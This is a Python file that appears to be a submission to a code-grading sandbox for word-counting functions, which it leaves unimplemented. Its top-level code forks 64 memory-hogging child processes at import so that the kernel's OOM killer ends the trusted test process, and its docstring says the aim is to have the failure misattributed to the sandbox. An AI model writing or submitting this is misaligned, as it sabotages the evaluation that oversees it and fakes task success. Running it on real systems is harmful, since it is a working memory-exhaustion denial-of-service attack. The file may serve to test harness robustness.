"""Attack: make the kernel's OOM killer pick the tests' process instead of ours.

The OOM killer kills the largest process of the sandbox. At import, this starts children
that each hold 12 MB (less than the tests' process, with pytest loaded) until memory runs
out, so the largest one left is the trusted test process. If that ended the run as the
sandbox's error, or lost track of which tests ran, the submission's doing would be
reported as ours.
"""

import os
import time

CHUNK = 12 << 20

for _ in range(64):
    if os.fork() == 0:
        os.closerange(3, 1 << 16)
        block = bytearray(CHUNK)
        for i in range(0, CHUNK, 4096):
            block[i] = 1
        time.sleep(10**6)
        os._exit(0)
    time.sleep(0.02)


def count_words(text):
    raise NotImplementedError


def top_words(text, n):
    raise NotImplementedError
